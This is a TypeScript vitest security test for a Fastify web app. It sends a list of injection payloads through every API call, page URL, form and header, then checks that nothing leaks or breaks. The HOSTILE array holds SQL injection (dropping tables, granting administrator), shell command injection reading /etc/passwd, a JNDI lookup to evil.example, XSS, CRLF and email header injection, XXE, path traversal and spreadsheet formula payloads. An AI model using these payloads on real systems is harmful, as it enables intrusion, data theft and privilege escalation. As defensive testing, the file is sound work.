import type { InjectOptions, LightMyRequestResponse } from 'fastify'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { calls } from '../../src/contract/calls.ts'
import { publicReads } from '../../src/contract/public-reads.ts'
import { v1Calls } from '../../src/contract/v1/v1-calls.ts'
import { FORM_PATHS } from '../../src/domain/account/account-pages.ts'
import { SEED, sized } from '../size.ts'
import { SITE } from '../support/account-site.ts'
import { type AutomationSite, automationSite } from '../support/automation-site.ts'
import { makeAccount, type TestAccount } from '../support/make-account.ts'
import { type InputPath, sampleInput, textPaths, withValueAt } from '../support/sample-input.ts'
import { type SignedIn, signIn } from '../support/sign-in.ts'

const MARK = 'injected'
/** Texts with a meaning for databases, shells, templates, headers, documents, paths, spreadsheets or objects. */
const HOSTILE = [
  "' or '1'='1",
  "' or 1=1 --",
  "'; drop table users; --",
  "'; update user_roles set role = 'administrator'; --",
  "' union select password_hash from users --",
  "'||(select pg_sleep(60))||'",
  '1; select pg_sleep(60)',
  "\\'; select 1; --",
  '$$; drop table users; $$',
  "%' escape '",
  '%_%_%_%',
  '{"$gt":""}',
  '; cat /etc/passwd',
  '| id',
  '`id`',
  '$(touch /tmp/injected)',
  '$' + '{7*7}',
  '{{7*7}}',
  '<%= 7*7 %>',
  '#{7*7}',
  '$' + '{jndi:ldap://evil.example/a}',
  `<script>${MARK}()</script>`,
  `<ScRiPt>${MARK}()</sCrIpT>`,
  `"><img src=x onerror=${MARK}()>`,
  `<svg/onload=${MARK}()>`,
  `</script><script>${MARK}()</script>`,
  `</title><script>${MARK}()</script>`,
  `</textarea><script>${MARK}()</script>`,
  `' onmouseover=${MARK}() x='`,
  `" autofocus onfocus=${MARK}() x="`,
  `javascript:${MARK}()`,
  `java\tscript:${MARK}()`,
  `data:text/html,<script>${MARK}()</script>`,
  `x\r\nSet-Cookie: ${MARK}=1`,
  `x\nX-${MARK}: 1`,
  `x\r\n\r\n<script>${MARK}()</script>`,
  `x\u2028X-${MARK}: 1`,
  `ada@customer.example\r\nBcc: ${MARK}@evil.example`,
  '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  ']]><b/><![CDATA[',
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '/etc/passwd\0.html',
  '//evil.example',
  '=cmd|"/c calc"!A0',
  '@SUM(1+1)',
  '*)(uid=*))(|(uid=*',
  '__proto__',
  'constructor.prototype.injected',
  '\u202egpj.exe\u0000\ufeff\ud800',
  `${'a'.repeat(5_000)}!`,
]
const OTHER_SHAPES: readonly unknown[] = [
  { $gt: '' },
  { toString: 1, length: -1 },
  [['a']],
  7e300,
  true,
  null,
]
const VALUES: readonly unknown[] = [...HOSTILE, ...OTHER_SHAPES]
/** Each place gets this many in turn, so that each call gets most and all calls together get all. */
const OF_EACH = sized({ short: 1, long: 12 })
/** Of the places of a call, one in ten; the seed says which. */
const EVERY = sized({ short: 10, long: 1 })
const valuesFor = () => inTurn(VALUES)
const textsFor = () => inTurn(HOSTILE)
const REQUESTS_OF_A_TOKEN = 20

let site: AutomationSite
let victim: TestAccount
let recordId: number
let asked = 0
let standing: SignedIn | undefined
let token: string | undefined

beforeAll(async () => {
  site = await automationSite()
  victim = await makeAccount(site.database.db)
  const { db } = site.database
  recordId = (await db.selectFrom('records').select('id').orderBy('id').executeTakeFirstOrThrow()).id
})

afterAll(() => site.stop())

interface CallParts {
  params: object
  query: object
  body: object
}

interface Place {
  name: string
  call: CallParts
  part: 'body' | 'query' | 'params'
  path: InputPath
}

function placesOf(name: string, call: CallParts): Place[] {
  return (['body', 'query', 'params'] as const).flatMap((part) =>
    textPaths(call[part]).map((path) => ({ name, call, part, path })),
  )
}

function namesOf(all: Readonly<Record<string, CallParts>>): string[] {
  return Object.entries(all).flatMap(([name, call]) => (placesOf(name, call).length > 0 ? [name] : []))
}

test('calls are found by their schemas, so new ones are tested automatically', () => {
  expect(namesOf(calls).length).toBeGreaterThan(80)
  expect(namesOf(v1Calls).length).toBeGreaterThan(10)
})

describe(`hostile text stays text and causes no server error`, () => {
  test.each(namesOf(calls))('in places of %s', async (name) => {
    const administrator = () => signIn(site.database.db, { roles: ['administrator'] })
    standing ??= await administrator()
    for (const place of someOf(placesOf(name, calls[name as keyof typeof calls]))) {
      // Calls on the own account may end it.
      const { cookie, csrf, uid } = name.includes('/user/') ? await administrator() : standing
      for (const value of valuesFor()) {
        const headers = { cookie, origin: SITE, 'x-csrf-token': csrf }
        await expectHarmless({ ...requestTo(place, value, uid), headers })
      }
    }
  })

  test.each(namesOf(v1Calls))('in places of %s', async (name) => {
    for (const place of someOf(placesOf(name, v1Calls[name as keyof typeof v1Calls]))) {
      for (const value of valuesFor()) {
        // A token has a rate limit, which would reject requests without looking at the text.
        if (asked % REQUESTS_OF_A_TOKEN === 0 || token === undefined) token = (await site.program()).token
        const headers = { authorization: `Bearer ${token}`, 'idempotency-key': `key ${asked}` }
        await expectHarmless({ ...requestTo(place, value, 0), headers })
      }
    }
  })

  test('in every parameter of every public read', async () => {
    for (const [url, { params, query }] of Object.entries(publicReads)) {
      const names = [...Object.keys(params.properties), ...Object.keys(query.properties)]
      for (const name of names) {
        for (const text of textsFor()) {
          const filled = url.replace(/:(\w+)/g, (_, key) => encode(key === name ? text : 'northwall_net'))
          const search = url.includes(`:${name}`) ? '' : `&${name}=${encode(text)}`
          await expectHarmless({ method: 'GET', url: `${filled}?cloud=northwall_net${search}` })
        }
      }
    }
  })

  test('in page URLs', async () => {
    const pages = sized({
      short: ['/northwall.net/faq', '/sign-in'],
      long: [
        '/',
        '/northwall.net',
        '/northwall.net/faq',
        '/northwall.net/incidents',
        '/sign-in',
        '/unsubscribe',
      ],
    })
    const names = ['search', 'origin', 'notice', 'problem', 'name', 'email', 'token', 'cloud', 'date', 'post']
    for (const page of pages) {
      for (const name of names) {
        for (const text of textsFor())
          await expectHarmless({ method: 'GET', url: `${page}?${name}=${encode(text)}` })
      }
    }
    for (const text of someOf(HOSTILE))
      await expectHarmless({ method: 'GET', url: `/northwall.net/${encode(text)}` })
  })

  test('in forms sent without scripts', async () => {
    const names = sized({
      short: ['token'],
      long: ['name', 'pass', 'email', 'mail', 'token', 'code', 'origin', MARK],
    })
    for (const url of FORM_PATHS) {
      for (const name of names) {
        for (const text of textsFor()) {
          await expectHarmless({
            method: 'POST',
            url,
            headers: { origin: SITE, 'content-type': 'application/x-www-form-urlencoded' },
            payload: `${name}=${encode(text)}`,
          })
        }
      }
    }
  })

  test('in headers', async () => {
    const names = [
      'cookie',
      'user-agent',
      'referer',
      'accept-language',
      'if-none-match',
      'authorization',
      'x-forwarded-for',
    ]
    for (const name of names) {
      // Characters that no client can send in a header never arrive.
      for (const text of textsFor().filter((one) => /^[\t -~]*$/.test(one)))
        await expectHarmless({
          method: 'GET',
          url: '/api/incident?cloud=northwall_net',
          headers: { [name]: text },
        })
    }
  })
})

function someOf<T>(all: readonly T[]): T[] {
  const every = Math.min(EVERY, all.length)
  return all.filter((_, index) => index % every === SEED % every)
}

function inTurn<T>(all: readonly T[]): T[] {
  const from = asked % all.length
  return [...all.slice(from), ...all.slice(0, from)].slice(0, OF_EACH)
}

function encode(value: unknown) {
  const text = typeof value === 'string' ? value : (JSON.stringify(value) ?? '')
  return encodeURIComponent(text.replaceAll(/\p{Surrogate}/gu, ''))
}

function requestTo({ name, call, part, path }: Place, value: unknown, uid: number): InjectOptions {
  const [method, address] = name.split(' ') as ['GET' | 'POST' | 'PATCH', string]
  const inputOf = (of: Place['part']) => {
    const sample = sampleInput(call[of])
    return (of === part ? withValueAt(sample, path, value) : sample) as Record<string, unknown>
  }
  const params = inputOf('params')
  const url = address.replace(/:(\w+)/g, (_, key: string) => {
    if (part === 'params' && path[0] === key) return encode(params[key])
    if (key === 'uid' && address.startsWith('/api/user')) return String(uid)
    return String(key === 'id' && /records|incidents/.test(address) ? recordId : 1)
  })
  const query = Object.entries(inputOf('query')).map(([key, one]) => `${key}=${encode(one)}`)
  return {
    method,
    url: `${url}?${query.join('&')}`,
    ...(method !== 'GET' && { payload: inputOf('body') }),
  }
}

async function expectHarmless(request: InjectOptions) {
  asked += 1
  // Rate limits are per address, and would answer instead.
  const remoteAddress = `203.0.${Math.floor(asked / 250) % 250}.${asked % 250}`
  const answer = await site.app.inject({ ...request, remoteAddress })
  const { statusCode, headers, body } = answer
  const details = JSON.stringify({ request, statusCode, body: body.slice(0, 300) })
  expect(statusCode, details).toBeLessThan(500)
  expect(body, details).not.toMatch(/syntax error at|invalid input syntax|root:.*:0:0:|at \S+ \(.*:\d+:\d+\)/)
  expect(JSON.stringify(headers), details).not.toMatch(new RegExp(`"x-${MARK}"|${MARK}=1`, 'i'))
  if (isHtml(answer)) {
    // Ignores quoted attributes, where quotes are escaped as &quot;.
    const tags = body.replace(/="[^"]*"/g, '=""')
    expect(tags, details).not.toMatch(new RegExp(`<script>${MARK}|<[^>]*${MARK}`, 'i'))
    expect(body, details).not.toMatch(/\s(href|src|action|formaction)="\s*java\s*script:/i)
  }
  const { location } = headers
  if (location !== undefined) expect(new URL(location, SITE).origin, details).toBe(SITE)
}

function isHtml({ headers }: LightMyRequestResponse) {
  return String(headers['content-type']).startsWith('text/html')
}

test("afterward a bystander's account is unchanged, and the log has no server errors", async () => {
  const { db } = site.database
  const { password_hash, locked_at } = await db
    .selectFrom('users')
    .where('id', '=', victim.uid)
    .select(['password_hash', 'locked_at'])
    .executeTakeFirstOrThrow()
  expect([typeof password_hash, locked_at]).toEqual(['string', null])
  expect(
    await db.selectFrom('user_roles').where('user_id', '=', victim.uid).select('role').execute(),
  ).toEqual([])
  expect(({} as Record<string, unknown>)[MARK]).toBeUndefined()
  expect(site.log.filter(({ level }) => level >= 50)).toEqual([])
})
